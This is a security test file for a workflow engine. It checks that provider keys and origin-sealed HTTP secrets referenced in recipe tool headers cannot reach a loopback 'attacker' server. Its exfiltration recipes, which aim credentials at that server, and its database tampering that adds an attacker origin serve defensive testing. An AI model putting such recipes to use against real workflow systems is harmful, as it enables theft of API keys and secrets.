/**
 * Issue 15, path 1 — workflow secrets hand out provider keys. A recipe's tool headers may hold
 * `{{ secrets.NAME }}`, and the tool URL's host is chosen by the recipe's author: before the
 * fix, any credential the run's starter could use resolved there, provider keys included, and
 * went to any host. Each attack below is played end to end against the real runtime (vault,
 * gateway, workflow engine) with a recording attacker server on loopback as the target.
 */
import { afterEach, describe, expect, it } from 'vitest'
import { sha256Hex } from '../../src/identity/secrets.js'
import { DIALECTS } from '../helpers.js'
import { addUser, canaryKey, createCredential, type TestUser } from '../vault/vault-helpers.js'
import { createE2eEnv, type E2eEnv, OPENAI_KEY } from '../workflows/e2e-env.js'
import { type Attacker, startAttacker } from './attacker.js'
import { allowPrivateOrigins, auditRows, runWorkflow } from './security-helpers.js'

type Headers = { authorization: string }

function toolRecipe(name: string, url: string, secret: string): string {
  return `
name: ${name}
steps:
  - id: call
    tool: hook
    with: { note: hello }
tools:
  hook: { method: POST, url: "${url}", headers: { authorization: "Bearer {{ secrets.${secret} }}" } }
`
}

describe.each(DIALECTS)('workflow tool secrets (%s)', (dialect) => {
  let env: E2eEnv
  let attacker: Attacker
  let legit: Attacker
  afterEach(async () => {
    await env?.close()
    await attacker?.close()
    await legit?.close()
  })

  async function save(h: Headers, yaml: string) {
    return env.app.inject({ method: 'POST', url: '/api/v1/workflows', headers: h, payload: { yaml } })
  }

  const run = (h: Headers, workflowId: string, inputs: Record<string, unknown> = {}) =>
    runWorkflow(env, h, workflowId, inputs)

  /**
   * A recipe whose stored YAML was replaced in the database after a harmless save, skipping the
   * save-time checks: what a recipe saved before these rules existed looks like. The call-time
   * checks must hold alone.
   */
  async function storedRecipe(yaml: string, name: string): Promise<string> {
    const harmless = `name: ${name}\nsteps:\n  - id: call\n    tool: t\ntools:\n  t: { url: "https://example.com/" }\n`
    const saved = await save(env.auth('admin'), harmless)
    expect(saved.statusCode, saved.body).toBe(201)
    const id = saved.json().id as string
    await env.rt.db.db
      .updateTable('workflow_versions')
      .set({ yaml, yaml_sha256: sha256Hex(yaml) })
      .where('workflow_id', '=', id)
      .execute()
    return id
  }

  async function httpSecret(h: Headers, name: string, value: string, origins: string[], extra = {}) {
    const r = await createCredential(env, h, {
      name,
      provider: 'http-secret',
      apiKey: value,
      origins,
      ...extra,
    })
    expect(r.status, r.body).toBe(201)
    return r.json
  }

  it('a provider key never leaves through a tool, whatever the recipe says', async () => {
    env = await createE2eEnv(dialect)
    attacker = await startAttacker()
    const member = await addUser(env, 'member')
    const exfil = toolRecipe('exfil', `${attacker.origin}/collect`, 'oa')

    // The member (who may *use* the org's OpenAI key `oa`) writes a recipe sending it to
    // their own server. Refused when saved…
    const saved = await save(member.headers, exfil)
    expect(saved.statusCode, saved.body).toBe(400)
    expect(saved.json().error.message).toMatch(/secret oa .*http-secret/)
    // …and by the admin too: no right makes a provider key a tool secret.
    expect((await save(env.auth('admin'), exfil.replace('exfil', 'exfil2'))).statusCode).toBe(400)

    // A recipe that skipped the save checks (stored before this rule) fails at call time.
    const wf = await storedRecipe(exfil, 'exfil-stored')
    const r = await run(member.headers, wf)
    expect(r.status).toBe('failed')
    expect(r.error).toMatch(/secret oa .*http-secret/)
    expect(attacker.requests).toHaveLength(0)
    expect(attacker.saw(OPENAI_KEY)).toBe(false)
    const refused = await auditRows(env, 'secret.refused')
    expect(refused.map((a) => a.details.name)).toContain('oa')
    expect(JSON.stringify(refused)).not.toContain(OPENAI_KEY)
  })

  it('an http-secret goes only to the origins sealed with it; every use is audited, never the value', async () => {
    env = await createE2eEnv(dialect)
    attacker = await startAttacker()
    legit = await startAttacker({ ok: true })
    const value = canaryKey('hooksecret')
    const cred = await httpSecret(env.auth('admin'), 'hook', value, [legit.origin])
    expect(cred.origins).toEqual([legit.origin])
    const member = await addUser(env, 'member')

    // The intended use: an admin's recipe, run by a member, reaches the secret's origin.
    const good = await save(env.auth('admin'), toolRecipe('notify', `${legit.origin}/in`, 'hook'))
    expect(good.statusCode, good.body).toBe(201)
    const ok = await run(member.headers, good.json().id)
    expect(ok.status, ok.error).toBe('succeeded')
    expect(legit.requests).toHaveLength(1)
    expect(legit.requests[0]!.headers.authorization).toBe(`Bearer ${value}`)
    const used = await auditRows(env, 'secret.used')
    expect(used).toHaveLength(1)
    expect(used[0]!.credentialId).toBe(cred.id)
    expect(used[0]!.actor).toBe(member.tokenId)
    expect(used[0]!.details).toMatchObject({
      name: 'hook',
      origin: legit.origin,
      runId: ok.id,
      stepId: 'call',
    })

    // Even the admin who manages the secret cannot aim it at another origin…
    const elsewhere = toolRecipe('leak', `${attacker.origin}/x`, 'hook')
    const refused = await save(env.auth('admin'), elsewhere)
    expect(refused.statusCode, refused.body).toBe(400)
    expect(refused.json().error.message).toMatch(/secret hook may not be sent to http:\/\/127\.0\.0\.1:\d+/)
    // …and a stored recipe that does is stopped at call time.
    const wf = await storedRecipe(elsewhere, 'leak-stored')
    const r = await run(member.headers, wf)
    expect(r.status).toBe('failed')
    expect(r.error).toMatch(/secret hook may not be sent to/)
    expect(attacker.requests).toHaveLength(0)

    // Nothing the API, the run or the audit log hands out holds the value.
    const all = await env.app.inject({
      method: 'GET',
      url: '/api/v1/audit?limit=1000',
      headers: env.auth('owner'),
    })
    expect(all.body).not.toContain(value)
    expect(JSON.stringify(ok)).not.toContain(value)
    const list = await env.app.inject({
      method: 'GET',
      url: '/api/v1/credentials',
      headers: env.auth('owner'),
    })
    expect(list.body).not.toContain(value)
  })

  it('referencing a secret in a recipe needs the manage right on it, not just use', async () => {
    env = await createE2eEnv(dialect)
    legit = await startAttacker({ ok: true })
    attacker = await startAttacker()
    const value = canaryKey('orgsecret')
    await httpSecret(env.auth('admin'), 'hook', value, [legit.origin])
    const member: TestUser = await addUser(env, 'member')

    // The member may use the org secret (runs of others' recipes need that) but not point a
    // recipe of their own at it, even at its own origin.
    const r = await save(member.headers, toolRecipe('mine', `${legit.origin}/in`, 'hook'))
    expect(r.statusCode, r.body).toBe(403)
    expect(r.json().error.message).toMatch(/manage/)

    // Their own personal secret is theirs to reference.
    const own = canaryKey('ownsecret')
    await allowPrivateOrigins(env, legit.origin)
    await httpSecret(member.headers, 'mine', own, [legit.origin], { scope: 'personal' })
    const saved = await save(member.headers, toolRecipe('mine', `${legit.origin}/in`, 'mine'))
    expect(saved.statusCode, saved.body).toBe(201)
    const ok = await run(member.headers, saved.json().id)
    expect(ok.status, ok.error).toBe('succeeded')
    expect(legit.saw(own)).toBe(true)
    expect(attacker.requests).toHaveLength(0)
  })

  it('a database writer who adds an origin to a sealed secret gets a broken secret, not the value', async () => {
    env = await createE2eEnv(dialect)
    attacker = await startAttacker()
    legit = await startAttacker({ ok: true })
    const value = canaryKey('dbsecret')
    const cred = await httpSecret(env.auth('admin'), 'hook', value, [legit.origin])
    const wf = await storedRecipe(toolRecipe('db-leak', `${attacker.origin}/x`, 'hook'), 'db-leak')

    await env.rt.db.db
      .updateTable('credentials')
      .set({ origins: JSON.stringify([legit.origin, attacker.origin]) })
      .where('id', '=', cred.id)
      .execute()
    await env.rt.bus.publish('credentials')

    const r = await run(env.auth('admin'), wf)
    expect(r.status).toBe('failed')
    expect(r.error).toMatch(/integrity/)
    expect(attacker.requests).toHaveLength(0)
  })
})
